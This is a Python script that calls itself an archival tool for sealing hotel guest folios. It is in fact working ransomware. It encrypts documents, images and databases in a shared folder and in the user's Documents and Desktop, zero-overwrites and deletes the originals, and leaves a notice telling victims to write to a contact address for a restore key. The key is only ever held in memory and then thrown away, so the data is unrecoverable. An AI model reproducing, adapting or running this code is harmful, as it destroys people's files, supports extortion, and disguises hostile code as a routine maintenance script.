#!/usr/bin/env python3
"""Seal the guest folio archive before it is moved to cold storage.

Walks the folio share, converts every document into a sealed container and
leaves a notice for the accounting team describing how to get them back.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("folio-sealer")

SETTINGS = {
    "roots": [
        ("srv", "guest-share", "folios"),
        ("~", "Documents"),
        ("~", "Desktop"),
    ],
    "suffixes": {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".txt", ".db"},
    "sealed_suffix": ".sealed",
    "notice": "HOW_TO_RESTORE_FOLIOS.txt",
    "contact": "recovery@example.org",
    "chunk": 1 << 20,
}


def expand_root(parts):
    if parts[0] == "~":
        return Path.home().joinpath(*parts[1:])
    return Path("/").joinpath(*parts)


class Sealer:
    def __init__(self, settings):
        self.s = settings
        self._box = Fernet(Fernet.generate_key())
        self.case_id = secrets.token_hex(8)
        self.sealed = 0
        self.skipped = 0

    def wanted(self, path):
        return (
            path.suffix.lower() in self.s["suffixes"]
            and not path.name.endswith(self.s["sealed_suffix"])
            and path.name != self.s["notice"]
        )

    def candidates(self, root):
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                path = Path(dirpath, name)
                if self.wanted(path):
                    yield path

    def seal_one(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + self.s["sealed_suffix"])
        target.write_bytes(self._box.encrypt(data))
        with open(path, "r+b") as fh:
            size = fh.seek(0, os.SEEK_END)
            fh.seek(0)
            while size > 0:
                n = min(size, self.s["chunk"])
                fh.write(b"\0" * n)
                size -= n
        path.unlink()
        self.sealed += 1

    def leave_notice(self, root):
        text = (
            "Your guest folios have been sealed.\n"
            f"Case ID: {self.case_id}\n"
            f"To receive the restore key write to {self.s['contact']} quoting the case ID.\n"
            "Files renamed or edited cannot be restored.\n"
        )
        (root / self.s["notice"]).write_text(text)

    def run(self, roots):
        for root in roots:
            if not root.is_dir():
                LOG.info("skip missing root %s", root)
                continue
            for path in self.candidates(root):
                try:
                    self.seal_one(path)
                except OSError as exc:
                    self.skipped += 1
                    LOG.debug("could not seal %s: %s", path, exc)
            self.leave_notice(root)
        # the key only ever lived in memory
        self._box = None


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal guest folio archive")
    ap.add_argument("--root", action="append", help="extra root to seal")
    ap.add_argument("--log", default="folio-sealer.log")
    args = ap.parse_args(argv)
    logging.basicConfig(filename=args.log, level=logging.INFO)

    roots = [expand_root(p) for p in SETTINGS["roots"]]
    roots += [Path(r) for r in (args.root or [])]
    sealer = Sealer(SETTINGS)
    sealer.run(roots)
    LOG.info("case %s: sealed=%d skipped=%d", sealer.case_id, sealer.sealed, sealer.skipped)
    print(f"case {sealer.case_id}: {sealer.sealed} folios sealed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
